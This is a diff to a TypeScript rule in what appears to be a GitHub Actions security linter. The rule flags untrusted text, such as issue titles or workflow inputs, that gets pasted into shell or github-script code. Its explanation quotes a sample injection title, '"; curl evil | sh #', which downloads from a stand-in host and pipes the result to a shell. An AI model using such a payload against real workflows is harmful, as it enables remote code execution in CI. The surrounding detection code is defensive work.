@@ -1,8 +1,9 @@
-import { actionName } from "../action-pushes.ts";
 import { environmentsOf } from "../conditions.ts";
 import type { Breach, Rule } from "../finding.ts";
+import type { Repository } from "../repository.ts";
+import { callsOf, createScriptInputs, intoScripts, scriptsOf } from "../script-inputs.ts";
 import { findUntrusted } from "../untrusted-text.ts";
-import type { Job, Step, Text, Workflow } from "../workflow.ts";
+import type { Job, Step, TextMap, Workflow } from "../workflow.ts";
 
 /** Text that strangers write, pasted into a script before the shell reads it. */
 export const scriptInjection: Rule = {
@@ -12,10 +13,12 @@ export const scriptInjection: Rule = {
   why: 'GitHub puts the text into the script before the shell sees it, so a title such as `"; curl evil | sh #` runs. Quotes do not help.',
   remedy:
     'Hand it over as a variable: `env: { TITLE: ${{ … }} }` at the step, and `"$TITLE"` in the script (`process.env.TITLE` in github-script).',
-  check: (repository) =>
-    repository.workflows.flatMap((workflow) =>
+  check: (repository) => [
+    ...repository.workflows.flatMap((workflow) =>
       workflow.jobs.flatMap((job) => job.steps.flatMap((step) => judge(workflow, job, step))),
     ),
+    ...judgeInputs(repository),
+  ],
 };
 
 function judge(workflow: Workflow, job: Job, step: Step): Breach[] {
@@ -31,8 +34,50 @@ function judge(workflow: Workflow, job: Job, step: Step): Breach[] {
   );
 }
 
-/** What is run as a program: shell scripts, and github-script's JavaScript. */
-function scriptsOf(step: Step): Text[] {
-  const script = actionName(step) === "actions/github-script" ? step.with.get("script") : undefined;
-  return [step.run, script].flatMap((text) => text ?? []);
+/** Text that is handed to an action or a workflow of the repository, and ends in a script there. */
+function judgeInputs(repository: Repository): Breach[] {
+  const inputsOf = createScriptInputs(repository);
+  return repository.workflows.flatMap((workflow) => [
+    ...callsOf(repository, workflow).flatMap(({ target, given, environments, job }) =>
+      judgeGiven(intoScripts(inputsOf(target), given), {
+        file: workflow.file,
+        environments,
+        says: (path, name) =>
+          `Job \`${job}\` gives \`${path}\`, which a stranger may write, to the input \`${name}\` of \`${target.file}\``,
+      }),
+    ),
+    ...judgeGiven(intoScripts(inputsOf(workflow), workflow.defaults), {
+      file: workflow.file,
+      environments: [],
+      says: (path, name) =>
+        `The input \`${name}\` is by default \`${path}\`, which a stranger may write`,
+    }),
+  ]);
+}
+
+interface Giver {
+  readonly file: string;
+  readonly environments: readonly TextMap[];
+  readonly says: (path: string, input: string) => string;
+}
+
+function judgeGiven(
+  given: ReturnType<typeof intoScripts>,
+  { file, environments, says }: Giver,
+): Breach[] {
+  return given.flatMap(([text, at, name]) =>
+    text.snippets.flatMap(({ source, place }) => {
+      const path = findUntrusted(source, environments);
+      if (path === null) return [];
+      const script = `${at.file}:${at.place.line}`;
+      return [
+        {
+          file,
+          place,
+          message: `${says(path, name)}: it becomes part of the script at \`${script}\`.`,
+          remedy: `At ${script} hand the input over as a variable: \`env: { VALUE: \${{ inputs.… }} }\` at the step, and \`"$VALUE"\` in the script (\`process.env.VALUE\` in github-script).`,
+        },
+      ];
+    }),
+  );
 }
